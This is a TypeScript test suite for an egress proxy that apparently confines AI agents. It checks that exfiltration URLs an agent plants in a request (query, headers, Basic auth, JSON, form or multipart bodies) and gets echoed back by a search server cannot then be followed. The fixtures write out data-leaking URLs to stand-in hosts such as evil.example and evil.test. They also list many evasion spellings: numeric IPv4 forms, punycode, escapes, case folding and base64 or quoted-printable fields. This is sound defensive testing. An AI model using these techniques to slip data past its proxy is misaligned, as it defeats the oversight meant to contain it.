// Attacks on browsing by link provenance that write data into a followed request after all.
//
// Echo: a response may repeat what its request carried (a search API's "query.original", a page's
// own URL, an API that shows the headers or body it received). An agent that puts
// `https://evil.example/?d=<secret>` into a query, a header or a body of a request to a browsing
// source gets it back in the answer; were it recorded as served, the agent could then follow it.
// Property-based over where the URL is put in the request and how the server transforms it on the
// way back (case, percent-escapes in one or more layers, HTML entities, JSON \u escapes, Unicode
// or punycode host, scheme dropped and added back, surrounding text), in each body format; then
// through a real Airlock with curl and Python requests.
//
// Headers: the URL of a followed link is what was served, but the agent chose every header of the
// request (a custom header, Cookie, User-Agent, Authorization from userinfo): each one data on its
// way to a host nobody allowed. A followed link is forwarded with fixed headers only.
import http from 'node:http';
import fc from 'fast-check';
import t from 'tap';
import { LinkScanner, echoedBy, normalizeLink, pageSkeleton, requestSkeletons, type LinkFormat } from '../../describe/links.ts';
import { tempDir, type Teardown } from '../temp-dir.ts';
import { listenWeb, policyCopy, startSessionAirlock, testConfig, type Web, viaCurl, viaPython } from '../sessions/helpers.ts';

const numRuns = Number(process.env.AIRLOCK_FUZZ_RUNS ?? 300);
const seed = process.env.AIRLOCK_FUZZ_SEED ? { seed: Number(process.env.AIRLOCK_FUZZ_SEED) } : {};

const word = fc.stringMatching(/^[A-Za-z0-9]{3,10}$/);
/** A URL carrying data: the agent's choice of host, path and query. */
const leakUrl = fc.record({
  scheme: fc.constantFrom('http', 'https'),
  host: fc.tuple(word, fc.constantFrom('evil.example', 'bücher.example', 'x.test')).map(([a, b]) => `${a}.${b}`),
  path: fc.array(word, { minLength: 0, maxLength: 3 }),
  query: fc.array(fc.tuple(word, word), { maxLength: 3 }),
}).map((u) => `${u.scheme}://${u.host}/${u.path.join('/')}${u.query.length ? `?${u.query.map(([k, v]) => `${k}=${v}`).join('&')}` : ''}`)
  .filter((u) => u.length > 20); // a few bytes of data at least

const pct = (s: string): string => [...Buffer.from(s)].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('');
const htmlEntities = (s: string): string => [...s].map((c) => (/[a-z:/.?=&]/i.test(c) ? `&#x${c.codePointAt(0)!.toString(16)};` : c)).join('');
const jsonEscapes = (s: string): string => [...s].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');

/** How a server might write back what it received: [name, transform] (the result is placed in the body raw). */
const transforms: Record<string, (u: string, format: LinkFormat) => string> = {
  same: (u) => u,
  upper: (u) => u.toUpperCase(),
  lower: (u) => u.toLowerCase(),
  punycode: (u) => new URL(u).href,
  unicode: (u) => { const x = new URL(u); return `${x.protocol}//${decodeURIComponent(x.host.replace(/xn--bcher-kva/, 'bücher'))}${x.pathname}${x.search}`; },
  'scheme-swapped': (u) => u.replace(/^https?:/, (s) => (s === 'http:' ? 'https:' : 'http:')),
  'escaped-path': (u) => { const x = new URL(u); return `${x.protocol}//${x.host}${x.pathname.split('/').map((p) => pct(p)).join('/')}${x.search}`; },
  'entities-or-escapes': (u, f) => (f === 'html' ? htmlEntities(u) : f === 'json' ? jsonEscapes(u) : u),
  'trailing-dot-host': (u) => { const x = new URL(u); return `${x.protocol}//${x.hostname}.${x.pathname}${x.search}`; },
};

/** Where the agent puts the URL in its request, and how it spells it there. */
const placements = ['query', 'query-twice-escaped', 'path', 'header', 'basic-auth', 'json-body', 'json-body-unicode-escapes', 'form-body', 'text-body', 'no-scheme'] as const;
type Placement = (typeof placements)[number];

function requestWith(url: string, where: Placement): Parameters<typeof requestSkeletons>[0] {
  const base = { pathAndQuery: '/search?q=news', headers: [['accept', '*/*']] as Array<[string, string]>, summary: { truncated: false } };
  const bodyOf = (text: string, summary: Record<string, unknown>) => ({ ...base, body: { bytes: Buffer.from(text), truncated: false }, summary: { truncated: false, ...summary } });
  switch (where) {
    case 'query': return { ...base, pathAndQuery: `/search?q=${encodeURIComponent(url)}` };
    case 'query-twice-escaped': return { ...base, pathAndQuery: `/search?q=${encodeURIComponent(encodeURIComponent(url))}` };
    case 'path': return { ...base, pathAndQuery: `/go/${url.replace('://', ':/')}` };
    case 'header': return { ...base, headers: [...base.headers, ['x-query', url]] };
    // The user name of Basic credentials (curl's `-u`, or `http://user:pass@…`): a page that greets its user shows it.
    case 'basic-auth': return { ...base, headers: [...base.headers, ['authorization', `Basic ${Buffer.from(`${url}:x`).toString('base64')}`]] };
    case 'json-body': return bodyOf(JSON.stringify({ q: url }), { json: { q: url } });
    // Parsed (as the description parses it) from a body written with \u escapes only.
    case 'json-body-unicode-escapes': return bodyOf(`{"q":"${jsonEscapes(url)}"}`, { json: { q: url } });
    case 'form-body': return bodyOf(`q=${encodeURIComponent(url)}`, { form: { q: [url] } });
    case 'text-body': return bodyOf(`look up ${url} please`, { text: `look up ${url} please` });
    default: return { ...base, pathAndQuery: `/search?q=${encodeURIComponent(url.replace(/^https?:\/\//, ''))}` }; // autolinked by the server
  }
}

function answerWith(echo: string, format: LinkFormat, served: string): string {
  if (format === 'html') return `<html><body><p>Results for <b>${echo}</b></p><a href="${served}">result</a><link rel="canonical" href="/search?q=${echo}"></body></html>`;
  if (format === 'json') return `{"query":{"original":"${echo}"},"results":[{"url":"${served}"}]}`;
  return `you searched for ${echo}\nresult: ${served}\n`;
}

function recorded(request: Parameters<typeof requestSkeletons>[0], format: LinkFormat, body: string): string[] {
  const page = `https://search.example${request.pathAndQuery}`;
  const scanner = new LinkScanner(format, page);
  scanner.write(body);
  const sent = requestSkeletons(request);
  if (!sent) return [];
  return scanner.end().filter((u) => !echoedBy(u, sent, scanner.spellingsOf(u), pageSkeleton(page)));
}

t.test('a URL the request carried is not recorded when the answer echoes it, however transformed (property)', async (t) => {
  const served = 'https://blog.example/posts/2024/airlock-review';
  fc.assert(fc.property(leakUrl, fc.constantFrom(...placements), fc.constantFrom(...Object.keys(transforms)), fc.constantFrom<LinkFormat>('html', 'json', 'text'), (url, where, how, format) => {
    let echo = transforms[how]!(url, format);
    if (where === 'no-scheme') echo = echo.replace(/^https?:\/\//i, 'http://');
    const links = recorded(requestWith(url, where), format, answerWith(echo, format, served));
    // The result the source chose is recorded; nothing on the agent's own host is.
    const leaked = links.filter((l) => new URL(l).hostname.endsWith(new URL(url).hostname.split('.').slice(1).join('.').replace('bücher', 'xn--bcher-kva')));
    return links.includes(served) && leaked.length === 0;
  }), { numRuns, ...seed });
});

// The agent may spell the URL in a form the URL parser rewrites: a default port, dot-segments, an
// IPv4 address in decimal, hex, octal or short form, IPv6 with zeros, a host letter that IDNA
// maps to others (ẞ → ss), punycode the answer shows in Unicode, or dots written as entities or
// JSON escapes that the answer's own format decodes. Echoed as written (or canonicalized by the
// server), the link the scanner normalizes must still be recognized as the agent's.
const ipv4 = fc.tuple(fc.integer({ min: 1, max: 223 }), fc.nat(255), fc.nat(255), fc.integer({ min: 1, max: 254 }));
const rewritten = fc.record({
  how: fc.constantFrom('default-port', 'padded-port', 'dot-segments', 'ipv4-decimal', 'ipv4-hex', 'ipv4-octal', 'ipv4-short', 'ipv6-zeros', 'idna-mapped', 'punycode-shown-unicode', 'encoded-dots'),
  scheme: fc.constantFrom('http', 'https'),
  word, ip: ipv4,
  mapped: fc.constantFrom('ẞ', 'ϲ', 'ᾀ', 'ͅ', 'ᲀ'),
  path: fc.array(word, { minLength: 1, maxLength: 3 }),
  query: fc.array(fc.tuple(word, word), { maxLength: 2 }),
});

t.test('a URL spelled in a form the URL parser rewrites is still recognized as the echo (property)', async (t) => {
  const served = 'https://blog.example/posts/2024/airlock-review';
  fc.assert(fc.property(rewritten, fc.constantFrom(...placements), fc.constantFrom<LinkFormat>('html', 'json', 'text'), fc.boolean(), (u, where, format, canonical) => {
    const [a, b, c, d] = u.ip;
    const rest = `/${u.path.join('/')}${u.query.length ? `?${u.query.map(([k, v]) => `${k}=${v}`).join('&')}` : ''}`;
    let host = `${u.word}.evil.example`;
    let port = '';
    let path = rest;
    switch (u.how) {
      case 'default-port': port = u.scheme === 'https' ? ':443' : ':80'; break;
      case 'padded-port': port = u.scheme === 'https' ? ':00443' : ':080'; break;
      case 'dot-segments': path = `/${u.word}/..${rest}`; break;
      case 'ipv4-decimal': host = String(a * 2 ** 24 + b * 2 ** 16 + c * 2 ** 8 + d); break;
      case 'ipv4-hex': host = `0x${[a, b, c, d].map((x) => x.toString(16).padStart(2, '0')).join('')}`; break;
      case 'ipv4-octal': host = [a, b, c, d].map((x) => `0${x.toString(8)}`).join('.'); break;
      case 'ipv4-short': host = `${a}.${b * 65536 + c * 256 + d}`; break;
      case 'ipv6-zeros': host = `[2001:0db8:0000:0000::${(a * 256 + b).toString(16).padStart(4, '0')}]`; break;
      case 'idna-mapped': host = `${u.word}.${u.mapped}x.example`; break;
      case 'punycode-shown-unicode': host = `${u.word}.xn--bcher-kva.example`; break;
      default: host = format === 'html' ? `${u.word}&#46;evil&#x2e;example` : format === 'json' ? `${u.word}\\u002eevil\\u002Eexample` : host;
    }
    const written = `${u.scheme}://${host}${port}${path}`;
    const leaked = normalizeLink(written.replace(/&#46;|&#x2e;|\\u002e/gi, '.'));
    if (!leaked) return true;
    // The server echoes what it received, or (when it understood it as a URL) its canonical form.
    // A URL written without a scheme is canonicalized by a server that takes it for a link as well
    // (ninth pass: `evil.example:443/a/../x` echoed as `https://evil.example/x`).
    let echo = canonical && u.how !== 'encoded-dots' ? new URL(written).href : written;
    if (u.how === 'punycode-shown-unicode') echo = echo.replace('xn--bcher-kva', 'bücher');
    if (where === 'no-scheme') echo = echo.replace(/^https?:\/\//i, 'http://');
    const links = recorded(requestWith(written, where), format, answerWith(echo, format, served));
    const leakedHost = new URL(leaked).host;
    return links.includes(served) && !links.some((l) => new URL(l).host === leakedHost);
  }), { numRuns, ...seed });
});

// Letters whose case mapping is not one to one: a server that upper-cases its echo turns `ß` into
// `SS` and `ᾀ` into `ἈΙ`, one that lower-cases it `ẞ` into `ß`; compared lower-cased only, the echo
// gained letters the request lacked. A server that folds what it echoes as search engines fold
// queries (accents dropped: `é` → `e`; numerals of any script as ASCII digits: `٣` → `3`), or
// slugifies it (what is not ASCII dropped: `SEC中RET` → `SECRET`), left letters and digits the
// request did not hold in that order (seventh pass).
const folded = (s: string): string => s.normalize('NFKD').replace(/\p{M}/gu, '').replace(/(?![0-9])\p{Nd}/gu, (d) => {
  const zero = ['٠', '۰', '०', '০', '๐', '０'].find((z) => d.codePointAt(0)! - z.codePointAt(0)! >= 0 && d.codePointAt(0)! - z.codePointAt(0)! < 10)!;
  return String(d.codePointAt(0)! - zero.codePointAt(0)!);
});
t.test('an echo upper-cased, lower-cased or folded is the agent\'s whatever letters it holds (property)', async () => {
  const served = 'https://blog.example/posts/2024/airlock-review';
  const special = fc.array(fc.constantFrom('ß', 'ẞ', 'ᾀ', 'ῳ', 'ŉ', 'ﬁ', 'İ', 'ς', 'ǰ', 'a', 'Z', '7', 'é', 'Ñ', 'ø', 'ů', 'ả', '٣', '۷', '९', '৫', '๒', '５', '中', 'ж', 'λ', 'ש'), { minLength: 1, maxLength: 6 }).map((a) => a.join(''));
  // Slugified: decomposed, and what is not ASCII then dropped (Python's `encode('ascii', 'ignore')`).
  const slug = (u: string): string => u.normalize('NFKD').replace(/[^\x00-\x7f]/g, '');
  const ascii = (u: string): string => u.replace(/[^\x00-\x7f]/g, '');
  fc.assert(fc.property(word, special, word, fc.constantFrom<Placement>('query', 'header', 'basic-auth', 'json-body', 'form-body'), fc.constantFrom('upper', 'lower', 'folded', 'slug', 'ascii'), fc.constantFrom<LinkFormat>('html', 'json', 'text'), (host, data, tail, where, how, format) => {
    const url = `https://${host}.evil.example/?d=${data}${tail}`;
    const echo = how === 'upper' ? url.toUpperCase().replace(/^HTTPS:\/\/[^/]+/, (h) => h.toLowerCase()) : how === 'lower' ? url.toLowerCase() : how === 'folded' ? folded(url) : how === 'slug' ? slug(url) : ascii(url);
    const links = recorded(requestWith(url, where), format, answerWith(echo, format, served));
    return links.includes(served) && !links.some((l) => new URL(l).hostname.endsWith('evil.example'));
  }), { numRuns, ...seed });
});

// XML and entities left in links: a feed escapes `&` as `&amp;` (read as text, the link kept it, so
// the echo's letters gained "amp"), and Atom's HTML content (or a page's template) escapes twice.
t.test('an echo escaped for XML, or escaped twice, is still the agent\'s; a feed\'s own links read unescaped (property)', async () => {
  const served = 'https://blog.example/p?a=1&b=2';
  const xmlEsc = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;');
  const shapes: Record<string, [LinkFormat, (u: string) => string]> = {
    'rss-link': ['xml', (u) => `<?xml version="1.0"?><rss><channel><title>${xmlEsc(u)}</title><link>${xmlEsc(u)}</link><item><link>${xmlEsc(served)}</link></item></channel></rss>`],
    'atom-href': ['xml', (u) => `<feed><link rel="self" href="${xmlEsc(u)}"/><entry><link href="${xmlEsc(served)}"/></entry></feed>`],
    'atom-html-content': ['xml', (u) => `<feed><entry><link href="${xmlEsc(served)}"/><content type="html">${xmlEsc(`<a href="${xmlEsc(u)}">r</a>`)}</content></entry></feed>`],
    'html-twice': ['html', (u) => `<p>${xmlEsc(xmlEsc(u))}</p><a href="${xmlEsc(xmlEsc(u))}">x</a><a href="${xmlEsc(served)}">r</a>`],
    'text-escaped': ['text', (u) => `${xmlEsc(u)}\n${served}\n`],
  };
  const withAmp = leakUrl.filter((u) => u.includes('&'));
  fc.assert(fc.property(withAmp, fc.constantFrom(...Object.keys(shapes)), fc.constantFrom<Placement>('query', 'header', 'json-body'), (url, shape, where) => {
    const [format, body] = shapes[shape]!;
    const links = recorded(requestWith(url, where), format, body(url));
    const host = new URL(url).hostname;
    return (format === 'text' || links.includes(served)) && !links.some((l) => new URL(l).hostname === host);
  }), { numRuns, ...seed });
});

t.test('links a source chose are recorded beside the echo; a body not seen whole records nothing', async (t) => {
  const req = requestWith('https://evil.example/?d=secret-data', 'query');
  const body = answerWith('https://evil.example/?d=secret-data', 'json', 'https://docs.example/guide');
  t.same(recorded(req, 'json', body), ['https://docs.example/guide']);
  // Links that only share words with the query are the source's own.
  const search = { pathAndQuery: '/search?q=python+asyncio+tutorial', headers: [] as Array<[string, string]>, summary: { truncated: false } };
  t.same(recorded(search, 'json', '{"results":[{"url":"https://docs.python.org/3/library/asyncio.html"},{"url":"https://realpython.com/async-io-python/"}]}'),
    ['https://docs.python.org/3/library/asyncio.html', 'https://realpython.com/async-io-python/']);
  t.equal(requestSkeletons({ ...req, body: { bytes: Buffer.from('x'), truncated: true }, summary: { truncated: true } }), undefined, 'an upload past the capture: unknown, so no links');
  t.equal(requestSkeletons({ ...req, summary: { truncated: false, decode_error: 'unknown content coding' } }), undefined, 'an undecodable body: no links');
  // Folded readings cost passes over the text: past their bound, the answer records nothing.
  const wide = 'é'.repeat(140 * 1024);
  t.ok(requestSkeletons({ ...req, body: { bytes: Buffer.from(wide), truncated: false }, summary: { truncated: false, text: wide } })?.tooManyUrls, 'more text beyond ASCII than is folded: no links');
  t.notOk(requestSkeletons({ ...req, body: { bytes: Buffer.from('é'), truncated: false }, summary: { truncated: false, text: 'é' } })?.tooManyUrls, 'a little is folded');
  // A gzip body: its raw bytes are no text, so only what the description parsed whole counts.
  const gz = { ...req, headers: [['content-encoding', 'gzip']] as Array<[string, string]>, body: { bytes: Buffer.from([0x1f, 0x8b, 8, 0]), truncated: false } };
  t.equal(requestSkeletons({ ...gz, summary: { truncated: false, text: 'a'.repeat(4096), text_truncated: true } }), undefined, 'a compressed text shown only in part: no links');
  t.ok(requestSkeletons({ ...gz, summary: { truncated: false, json: { q: 'https://evil.example/?d=x' } } })?.some((k) => k.includes('evilexampledx')), 'a compressed JSON body parsed whole is read from its parse');
  t.equal(requestSkeletons({ ...req, body: { bytes: Buffer.from('\xff\xfe'), truncated: false }, summary: { truncated: false, charset: 'utf-16le', text: 'x'.repeat(10), text_truncated: true } }), undefined, 'UTF-16 text shown only in part: no links');
});

interface Hit { host: string; url: string; headers: http.IncomingHttpHeaders }

/** search.test echoes its query and its X-Query header, and serves one result link; blog.test records what it gets. */
async function startEchoWeb(t: Teardown): Promise<Web & { all: Hit[] }> {
  const all: Hit[] = [];
  let port = 0;
  const server = http.createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const host = (req.headers.host ?? '').split(':')[0]!;
      all.push({ host, url: req.url ?? '', headers: req.headers });
      let q = new URL(req.url ?? '/', 'http://x').searchParams.get('q') ?? '';
      // A multipart form, read as a MIME parser does (Go's mime/multipart undoes quoted-printable;
      // some undo base64 too): the field q, its transfer encoding undone.
      const boundary = /boundary=([^;]+)/.exec(req.headers['content-type'] ?? '')?.[1];
      if (boundary) {
        for (const part of Buffer.concat(chunks).toString('latin1').split(`--${boundary}`)) {
          const [head = '', body = ''] = part.split('\r\n\r\n');
          if (!/name="q"/.test(head)) continue;
          const value = body.replace(/\r\n$/, '');
          const cte = /content-transfer-encoding:\s*(\S+)/i.exec(head)?.[1]?.toLowerCase();
          q = cte === 'base64' ? Buffer.from(value, 'base64').toString('utf8')
            : cte === 'quoted-printable' ? value.replace(/=\r\n/g, '').replace(/=([0-9A-F]{2})/gi, (_m, h: string) => String.fromCharCode(parseInt(h, 16)))
            : value;
        }
      }
      if (host === 'search.test' && req.url?.startsWith('/page/')) {
        // A page with share buttons: links to other hosts that carry the page's own URL.
        const self = encodeURIComponent(`http://search.test:${port}${req.url}`);
        res.setHeader('content-type', 'text/html');
        res.end(`<p>An article.</p><a href="http://evil.test:${port}/share?u=${self}">share</a> <a href="http://evil.test:${port}/archive/http://search.test:${port}${req.url}">archive</a> <a href="http://blog.test:${port}/post?id=4">more</a>`);
      } else if (host === 'search.test') {
        res.setHeader('content-type', 'application/json');
        // The query also folded as search engines fold it (accents dropped).
        // A query that reads as a link without its scheme is previewed canonical, as a link-preview or archive lookup writes it.
        const preview = /^[a-z0-9.-]+\.[a-z]+(?::\d+)?\//i.test(q) ? new URL(`http://${q}`).href : '';
        res.end(JSON.stringify({ query: { original: q, header: req.headers['x-query'] ?? '', upper: q.toUpperCase(), folded: q.normalize('NFKD').replace(/\p{M}/gu, ''), preview }, results: [{ url: `http://blog.test:${port}/post?id=4` }] }));
      } else {
        res.setHeader('content-type', 'text/plain');
        res.end(`ok ${host}`);
      }
    });
  });
  const web = await listenWeb(t, server);
  port = web.port;
  return { ...web, all };
}

t.test('through the real proxy: echoed URLs stay unfollowable; a followed link carries none of the agent\'s headers', async (t) => {
  const web = await startEchoWeb(t);
  const allowed = [...testConfig.config.allowed_hosts.filter((h) => h !== 'search.test'), { host: 'search.test', methods: ['POST'] }];
  const airlock = await startSessionAirlock(t, tempDir(t, 'al-echo-'), policyCopy(t, { config: { ...testConfig.config, allowed_hosts: allowed, labels: { hosts: { 'search.test': [] } } } }), web);
  const agent = await airlock.agents.add('bot');
  const proxy = airlock.proxyUrl('bot', agent.token);
  const evil = (d: string): string => `http://evil.test:${web.port}/x?d=${d}`;

  // The query, a header, the query with the scheme left for the server to upper-case.
  t.equal((await viaCurl(proxy, 'GET', `${web.origin('search.test')}/s?q=${encodeURIComponent(evil('secret1'))}`)).status, 200);
  t.equal((await viaCurl(proxy, 'GET', `${web.origin('search.test')}/s?q=news`, undefined, { 'x-query': evil('secret2') })).status, 200);
  t.equal((await viaPython(proxy, 'GET', `${web.origin('search.test')}/s?q=${encodeURIComponent(evil('secret3'))}`)).status, 200); // echoed upper-case too
  for (const u of [evil('secret1'), evil('secret2'), evil('secret3'), evil('secret3').toUpperCase().replace(/^HTTP:\/\/EVIL\.TEST/, 'http://evil.test')]) {
    const r = await viaCurl(proxy, 'GET', u);
    t.equal(r.status, 403, `the echoed ${u} is not followable`);
  }
  t.notOk(web.all.some((h) => h.host === 'evil.test'), 'evil.test received nothing');

  // A query the server echoes folded, its accents dropped (seventh pass).
  t.equal((await viaCurl(proxy, 'GET', `${web.origin('search.test')}/s?q=${encodeURIComponent(evil('sécret16'))}`)).status, 200);
  t.equal((await viaCurl(proxy, 'GET', evil('secret16'))).status, 403, 'the folded echo is not followable');
  t.notOk(web.all.some((h) => h.host === 'evil.test'), 'evil.test received nothing');

  // Spellings the scanner normalizes: an address in decimal, dot-segments (echoed as written).
  const spelled: Array<[string, string]> = [
    [`http://2130706433:${web.port}/x?d=secret10`, `http://127.0.0.1:${web.port}/x?d=secret10`],
    [`http://evil.test:${web.port}/a/../x?d=secret11`, `http://evil.test:${web.port}/x?d=secret11`],
  ];
  for (const [written, normalized] of spelled) {
    t.equal((await viaCurl(proxy, 'GET', `${web.origin('search.test')}/s?q=${encodeURIComponent(written)}`)).status, 200);
    t.equal((await viaCurl(proxy, 'GET', normalized)).status, 403, `the echoed ${written} is not followable as ${normalized}`);
  }
  t.notOk(web.all.some((h) => h.host !== 'search.test' && /secret1[01]/.test(h.url)), 'no echoed spelling reached its host');

  // Written without a scheme, previewed canonical by the server (ninth pass: it was followable).
  t.equal((await viaCurl(proxy, 'GET', `${web.origin('search.test')}/s?q=${encodeURIComponent(`evil.test:${web.port}/a/../x?d=secret17`)}`)).status, 200);
  t.equal((await viaCurl(proxy, 'GET', evil('secret17'))).status, 403, 'the canonical preview of a URL written without a scheme is not followable');
  t.notOk(web.all.some((h) => h.host === 'evil.test'), 'evil.test received nothing');

  // A multipart form whose field is base64 or quoted-printable: the server undoes it and echoes the URL.
  const form = (cte: string, value: string): string => `--b0\r\nContent-Disposition: form-data; name="q"\r\nContent-Transfer-Encoding: ${cte}\r\n\r\n${value}\r\n--b0--\r\n`;
  const qp = (u: string): string => [...u].map((c) => `=${c.charCodeAt(0).toString(16).toUpperCase().padStart(2, '0')}`).join('').replace(/(.{60})/g, '$1=\r\n');
  // (Queries of words: a form field that is a URL alone is held since the seventeenth pass, as a host may fetch it.)
  for (const [cte, value, d] of [['base64', Buffer.from(`news ${evil('secret13')}`).toString('base64'), 'secret13'], ['quoted-printable', qp(`news ${evil('secret14')}`), 'secret14']] as const) {
    t.equal(await postVia(airlock.proxyAddress.port, `bot:${agent.token}`, `${web.origin('search.test')}/s`, 'multipart/form-data; boundary=b0', form(cte, value)), 200);
    t.equal((await viaCurl(proxy, 'GET', evil(d))).status, 403, `the ${cte} field echoed is not followable`);
  }
  t.notOk(web.all.some((h) => h.host === 'evil.test'), 'evil.test received nothing');

  // A page whose links to another host carry the page's own URL (share and archive buttons): the
  // agent chose that URL, so those links carry its data.
  t.equal((await viaCurl(proxy, 'GET', `${web.origin('search.test')}/page/secret12`)).status, 200);
  for (const u of [`http://evil.test:${web.port}/share?u=${encodeURIComponent(`${web.origin('search.test')}/page/secret12`)}`, `http://evil.test:${web.port}/archive/${web.origin('search.test')}/page/secret12`]) {
    t.equal((await viaCurl(proxy, 'GET', u)).status, 403, `${u} embeds the page's URL: not followable`);
  }
  t.notOk(web.all.some((h) => h.host === 'evil.test'), 'evil.test received nothing');

  // The result the source served is followable, with curl and Python requests, but bare.
  const link = `http://blog.test:${web.port}/post?id=4`;
  const viaHeaders = await viaCurl(proxy, 'GET', link, undefined, { 'x-leak': 'secret4', cookie: 'c=secret5', 'user-agent': 'secret6', referer: 'http://x.example/secret7', 'accept-language': 'secret8' });
  t.equal(viaHeaders.status, 200);
  t.equal(viaHeaders.body, 'ok blog.test');
  const userinfo = link.replace('http://', 'http://u:secret9@');
  t.equal((await viaCurl(proxy, 'GET', userinfo)).status, 200, 'curl sends userinfo as Authorization');
  const py = await viaPython(proxy, 'GET', link);
  t.equal(py.status, 200);
  t.equal(py.body, 'ok blog.test', 'Python requests reads the bare answer');
  const blog = web.all.filter((h) => h.host === 'blog.test');
  t.equal(blog.length, 3);
  for (const h of blog) {
    t.same(Object.keys(h.headers).sort(), ['accept', 'connection', 'host', 'user-agent'], 'only fixed headers reach the link');
    t.notMatch(JSON.stringify(h.headers), /secret/i);
  }
  // Requests to allowed hosts keep the agent's headers.
  await viaCurl(proxy, 'GET', `${web.origin('search.test')}/s?q=x`, undefined, { 'x-query': 'kept' });
  t.equal(web.all.at(-1)!.headers['x-query'], 'kept');
});

/** A POST through the proxy with Node's http client (one Content-Type, as given); its status. */
function postVia(proxyPort: number, credentials: string, url: string, type: string, body: string): Promise<number> {
  return new Promise((resolve, reject) => {
    const req = http.request({ host: '127.0.0.1', port: proxyPort, method: 'POST', path: url, headers: { host: new URL(url).host, 'proxy-authorization': `Basic ${Buffer.from(credentials).toString('base64')}`, 'content-type': type, 'content-length': Buffer.byteLength(body) } }, (res) => {
      res.resume();
      res.on('end', () => resolve(res.statusCode ?? 0));
    });
    req.on('error', reject);
    req.end(body);
  });
}
